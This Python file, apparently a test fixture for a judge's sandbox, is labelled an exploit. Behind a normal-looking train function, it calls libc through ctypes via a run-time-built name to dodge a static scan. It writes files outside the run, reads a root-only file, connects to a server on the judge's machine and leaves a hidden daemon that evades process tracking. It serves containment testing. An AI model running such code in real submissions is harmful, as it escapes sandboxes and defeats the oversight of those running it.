"""EXPLOIT: native code walking past the interpreter-level guards (libc through
numpy.ctypeslib's ctypes, reached with an attribute name built at run time): it writes a
file outside the run, reads a root-only file, connects to a server on the judge's machine,
and leaves a daemon behind: forked twice, in a session of its own (`setsid`), with its
environment cleared (`clearenv`), so neither the process group nor an environment marker
finds it. The targets are in `targets.txt` beside this file (the test writes it); each
outcome is printed as `NATIVE <action> <outcome>`, and the daemon prints `DAEMON <pid>`.
Caught by: the static scan (getattr on a module with a computed name) and the audit hook
(ctypes called by the solution); without both, the kernel: under namespaces the mount,
network and PID namespaces; under landlock Landlock's rules, seccomp and the run's reaper."""

import numpy.ctypeslib

from baseline.train import train as reference_train

AF_INET, SOCK_STREAM = 2, 1
O_RDONLY, O_WRONLY, O_APPEND, O_CLOEXEC = 0, 1, 0o2000, 0o2000000


def _libc():
    native = getattr(numpy.ctypeslib, "c" + "types")
    return native, native.CDLL(None, use_errno=True)


def _connect(native, libc, target: str) -> str:
    host, _, port = target.partition(":")
    fd = libc.socket(AF_INET, SOCK_STREAM, 0)
    if fd < 0:
        return f"socket errno {native.get_errno()}"
    address = (AF_INET.to_bytes(2, "little") + int(port).to_bytes(2, "big")
               + bytes(int(part) for part in host.split(".")) + bytes(8))
    if libc.connect(fd, native.c_char_p(address), len(address)) != 0:
        return f"connect errno {native.get_errno()}"
    return "connected"


def _read(native, libc, path: str) -> str:
    fd = libc.open(path.encode(), O_RDONLY)
    if fd < 0:
        return f"open errno {native.get_errno()}"
    buffer = native.create_string_buffer(256)
    n = libc.read(fd, buffer, 255)
    return "read " + buffer.raw[:max(n, 0)].decode(errors="replace")


def _write(native, libc, path: str) -> str:
    fd = libc.open(path.encode(), O_WRONLY | O_APPEND)
    if fd < 0:
        return f"open errno {native.get_errno()}"
    n = libc.write(fd, b"PWNED", 5)
    return "written" if n == 5 else f"write errno {native.get_errno()}"


def _daemon(native, libc, marker: str) -> str:
    """fork, setsid, clearenv, fork, exec a shell loop whose command line holds `marker`;
    returns once it has exec'd (the end of a close-on-exec pipe it held is closed)."""
    ends = (native.c_int * 2)()
    libc.pipe2(ends, O_CLOEXEC)
    first = libc.fork()
    if first < 0:
        return f"fork errno {native.get_errno()}"
    if first == 0:
        libc.setsid()
        libc.clearenv()
        if libc.fork() == 0:
            libc.dprintf(1, b"DAEMON %d\n", libc.getpid())
            argv = (native.c_char_p * 5)(b"sh", b"-c", b"while :; do sleep 1; done",
                                         marker.encode(), None)
            libc.execv(b"/bin/sh", argv)
        libc._exit(0)
    libc.close(ends[1])
    libc.waitpid(first, None, 0)
    libc.read(ends[0], native.create_string_buffer(1), 1)  # EOF: the daemon exec'd
    return "started"


ACTIONS = {"connect": _connect, "read": _read, "write": _write, "daemon": _daemon}


def train(cfg, init, tokens, batches):
    native, libc = _libc()
    for line in open(__file__.rsplit("/", 1)[0] + "/targets.txt").read().splitlines():
        action, _, target = line.partition(" ")
        print(f"NATIVE {action} {ACTIONS[action](native, libc, target)}", flush=True)
    return reference_train(cfg, init, tokens, batches)
